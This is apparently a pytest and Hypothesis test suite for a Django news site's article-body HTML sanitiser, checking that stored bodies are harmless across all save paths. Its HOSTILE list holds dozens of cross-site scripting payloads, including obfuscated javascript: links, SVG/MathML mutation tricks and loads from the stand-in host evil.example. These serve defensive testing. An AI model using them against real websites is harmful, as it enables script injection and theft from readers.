"""Whatever is put into an article's body, what is stored and shown can do readers no harm."""

import re
from html.parser import HTMLParser

import pytest
from django.db import connection
from hypothesis import given
from hypothesis import strategies as st

from articles.models import Article
from articles.text.body import clean_body

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/a.png' onerror=alert(1) style='background:url(//evil.example)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src='//evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='//evil.example/x.swf'></object><embed src='//evil.example/x.swf'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<video src='//evil.example/x.mp4' autoplay></video><audio src='//evil.example/x.mp3'></audio>",
    "<p style='position:fixed;inset:0;background:url(//evil.example/x.png)'>x</p>",
    "<p class='masthead' id='content'>x</p>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='https://evil.example/pixel.gif' alt='x'>",
    "<img src='\\\\evil.example\\pixel.gif'>",
    "<img src='/media/../admin/logout/'>",
    "<img src='/media/%2e%2e/admin/'>",
    "<img srcset='//evil.example/x.png 2x'>",
    "<picture><source srcset='//evil.example/x.png'><img src='/media/a.png'></picture>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<p>" * 2_000 + "<script>alert(1)</script>",
]
ALLOWED_TAGS = (
    "a blockquote br code dd dl dt em figcaption figure h2 h3 h4 hr img li ol p pre s strong sub sup table tbody td th"
    " thead tr ul"
)
ALLOWED_ATTRIBUTES = "alt colspan data-file data-type height href id rel rowspan src start title type width"


class Harmless(HTMLParser):
    """Reads HTML as browsers do, tag by tag, and asserts that none can do anything."""

    def handle_starttag(self, tag, attrs):
        assert tag in ALLOWED_TAGS.split()
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.split()
            if name == "id":
                assert value.startswith("text-")
            if name == "href":
                assert not re.match(r"\s*(javascript|data|vbscript|file):", value, re.IGNORECASE)
        if tag == "img":
            address = dict(attrs)["src"]
            assert address.startswith("/media/")
            assert not re.search(r"\.\.|%|\\\\", address)


def assert_harmless(html):
    parser = Harmless()
    parser.feed(html)
    parser.close()


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html):
    cleaned = clean_body(f"<p>before</p>{html}<p>after</p>")
    assert_harmless(cleaned)
    assert clean_body(cleaned) == cleaned


def test_what_an_article_is_made_of_stays():
    html = (
        "<h2>A</h2><p>b <strong>c</strong> <em>d</em> <s>e</s> H<sub>2</sub>O x<sup>2</sup><br>"
        '<a href="https://example.org/?a=1&amp;b=2">f</a> <a href="/archive/">g</a> <a href="mailto:h@x.org">i</a></p>'
        '<figure><img src="/media/images/a.webp" alt="j" width="3" height="2"><figcaption>k</figcaption></figure>'
        "<ul><li>l</li></ul><ol><li>m</li></ol><blockquote><p>n</p></blockquote><hr>"
        '<table><thead><tr><th colspan="2">o</th></tr></thead><tbody><tr><td>p</td><td>q</td></tr></tbody></table>'
    )
    assert clean_body(html) == html


@pytest.mark.parametrize(
    "html", ["", " ", "\n", "<p></p>", "<p><br></p>", "<p> </p>", "<p>&nbsp;</p>", "<script>x</script>"]
)
def test_a_body_without_text_is_empty(html):
    assert clean_body(html) == ""


FRAGMENTS = st.sampled_from(
    [
        *HOSTILE[:-1],
        *(
            "<p>",
            "</p>",
            "<table>",
            "<tr>",
            "<td>",
            "<li>",
            "<ul>",
            "</ul>",
            "<b>",
            "<",
            "&",
            "&amp;",
            "&#1;",
            "&#xd800;",
        ),
        *("<figure class='masthead'>", "<a href='/x'>", "&lt;p&gt;", "<!--", "-->", '"', "'"),
        *("\r\n", "\r", "\x00", "\x0b", "\x85", "\u2028"),
    ]
)


@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=20)), max_size=12).map("".join))
def test_cleaning_what_is_clean_changes_nothing(html):
    cleaned = clean_body(html)
    assert_harmless(cleaned)
    assert clean_body(cleaned) == cleaned


DIRTY, CLEAN = "<p onclick=alert(1)>x</p><script>alert(1)</script>", "<p>x</p>"


@pytest.mark.django_db
def test_a_body_is_clean_whichever_way_it_came_in(make_article, section):
    article = make_article(body=DIRTY)
    assert article.body == CLEAN
    Article.objects.update(body=DIRTY)
    assert stored_bodies() == [CLEAN]
    article.body = DIRTY
    Article.objects.bulk_update([article], ["body"])
    assert stored_bodies() == [CLEAN]
    article.body = DIRTY
    article.full_clean()
    assert article.body == CLEAN
    Article.objects.bulk_create([Article(slug="b", headline="B", section=section, body=DIRTY)])
    Article.objects.update_or_create(slug="c", defaults={"headline": "C", "section": section, "body": DIRTY})
    assert stored_bodies() == [CLEAN, CLEAN, CLEAN]


def stored_bodies():
    with connection.cursor() as cursor:
        cursor.execute("SELECT body FROM articles_article")
        return [body for (body,) in cursor.fetchall()]


def test_a_blockquote_may_be_a_pull_quote_and_nothing_else_by_its_class():
    pull_quote = '<blockquote class="pull-quote"><p>It leans.</p></blockquote>'
    assert clean_body(pull_quote) == pull_quote
    assert (
        clean_body('<blockquote class="pull-quote masthead"><p>x</p></blockquote>')
        == "<blockquote><p>x</p></blockquote>"
    )
    assert clean_body('<p class="pull-quote">x</p>') == "<p>x</p>"


def test_a_body_may_refer_to_one_of_its_sources():
    reference = '<p>Seas lean.<sup><a href="#source-1">1</a></sup></p>'
    assert clean_body(reference) == reference
